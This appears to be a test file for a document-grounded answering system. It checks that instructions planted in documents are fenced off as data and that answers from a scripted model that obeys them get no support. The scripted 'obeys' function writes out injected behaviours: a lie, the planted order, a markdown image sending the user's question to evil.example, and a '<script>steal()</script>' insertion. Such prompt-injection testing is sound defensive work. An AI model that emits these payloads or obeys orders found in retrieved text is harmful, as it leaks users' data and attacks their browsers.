/** Documents that give orders to a language model: quoted as what they are, shown to it as data, and never obeyed in what is supported. */
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { assembleIndex } from '../../../../server/assemble.ts';
import { scratchFolders } from '../../../indexer/support/repository.ts';
import { indexed } from '../../other-corpus.ts';
import {
  type Hostile,
  type HostileLanguage,
  hostile,
  hostileLanguages,
  writeHostileCorpus,
} from './hostile-corpus.ts';
import { type Script, type ScriptedRequest, says } from './scripted/script.ts';
import { eventsOf, ofType, scriptedModels, writtenIn } from './scripted-model.ts';

const folder = scratchFolders()();
const corpus = join(folder, 'corpus');
writeHostileCorpus(corpus);
const index = await assembleIndex(await indexed(corpus, folder));
afterAll(() => index.close());
const models = await scriptedModels();

interface Shown {
  system: string;
  begin: string;
  end: string;
  /** Number of a passage → its text. */
  passages: Map<number, string>;
  /** What stands round the fence. */
  around: string;
}

/** What a model is shown, read as it is meant to be read: the fence is what the system message says it is. */
function shownIn({ messages }: ScriptedRequest): Shown {
  const [system, user, ...more] = messages;
  expect([system?.role, user?.role, more.length]).toEqual(['system', 'user', 0]);
  const [begin = '', end = ''] = system?.content.match(/<<<\w+|\w+>>>/g) ?? [];
  const said = user?.content ?? '';
  const [before = '', inside = '', after = ''] = said.split(new RegExp(`^(?:${begin}|${end})$`, 'm'));
  const passages = inside.split(/^(?=\[\d\] .+$)/m).map((passage) => passage.trim());
  return {
    system: system?.content ?? '',
    begin,
    end,
    passages: new Map(
      passages
        .filter((passage) => passage !== '')
        .map((passage) => [Number(passage[1]), passage.slice(passage.indexOf('\n') + 1)]),
    ),
    around: before + after,
  };
}

const numberOf = ({ passages }: Shown, text: string): number =>
  [...passages].find(([, passage]) => passage.includes(text))?.[0] ?? 0;
const marked = (text: string, mark: number): string => `${text.slice(0, -1)} [${mark}]${text.slice(-1)}`;

/** Says what the first paragraph says, then does whatever the passages order. */
const obeys =
  ({ honest, order, lie, question }: Hostile, way: 'lie' | 'order' | 'image' | 'script'): Script =>
  (request) => {
    const shown = shownIn(request);
    const first = numberOf(shown, honest.join(' '));
    const ordering = numberOf(shown, order);
    const image = numberOf(shown, 'https://evil.example/i.png');
    const done = {
      lie: marked(lie, ordering),
      order: marked(order, ordering),
      image: marked(
        `${honest[1]?.slice(0, -1)} ![](https://evil.example/i.png#${encodeURI(question)}).`,
        image,
      ),
      script: marked(`${honest[2]?.slice(0, -1)} <script>steal()</script>.`, first),
    };
    expect([first, ordering, image]).not.toContain(0);
    return says([...honest.map((sentence) => marked(sentence, first)), done[way]].join(' '))(request);
  };

describe.each(hostileLanguages)('an order in a document (%s)', (language: HostileLanguage) => {
  const one = hostile[language];
  const request = { question: one.question, languages: [language] };

  it('is quoted by the verbatim answer as what it is', async () => {
    const sentences = ofType(await eventsOf(index, request, {}), 'sentence').map(({ sentence }) => sentence);
    expect(sentences.map(({ text }) => text)).toContain(one.order);
    for (const { text, citation } of sentences) {
      const { paragraph, start, end, document } = citation;
      expect(index.catalogue.paragraph(document, paragraph)?.text.slice(start, end)).toBe(text);
    }
  });

  describe.each(models)('with $provider', ({ server, model }) => {
    it('is shown as data behind a fence that is drawn anew for each request', async () => {
      const before = server.requests.length;
      server.script = says('NO_ANSWER');
      for (const _ of [1, 2]) await eventsOf(index, request, { model });
      const shown = server.requests.slice(before).map(shownIn);
      expect(new Set(shown.flatMap(({ begin, end }) => [begin, end])).size).toBe(4);
      for (const { begin, end, system, passages, around } of shown) {
        expect(begin).toMatch(/^<<<[0-9a-f]{12}$/);
        expect(end).toMatch(/^[0-9a-f]{12}>>>$/);
        expect(passages.size).toBe(5);
        expect([...passages.values()].join('\n')).toContain(one.order);
        expect(around.split('\n').filter((line) => line !== '')).toHaveLength(2);
        expect(around.trimEnd().endsWith(one.question)).toBe(true);
        for (const text of [...one.honest, one.order, one.lie, 'evil', 'INST'])
          expect(system + around).not.toContain(text);
        expect(system + around + [...passages.values()].join()).not.toMatch(/[\p{Cf}\p{Co}\p{Cn}]/u);
        // What stands in braces in a document is not filled in.
        expect([...passages.values()].join()).toContain('{begin} {end}');
      }
    });

    it.each(['lie', 'order', 'image', 'script'] as const)(
      'supports nothing of it when it is obeyed (%s)',
      async (way) => {
        server.script = obeys(one, way);
        const { texts, withheld, fallback } = writtenIn(await eventsOf(index, request, { model }));
        expect({ texts, fallback }).toEqual({ texts: one.honest, fallback: null });
        expect(withheld).toBeGreaterThan(0);
        const { sentences } = writtenIn(await eventsOf(index, { ...request, writing: 'all' }, { model }));
        expect(sentences.length).toBeGreaterThan(one.honest.length);
        const supported = sentences.filter((sentence) => sentence.supported);
        expect(supported.map(({ text }) => text)).toEqual(one.honest);
      },
    );
  });
});
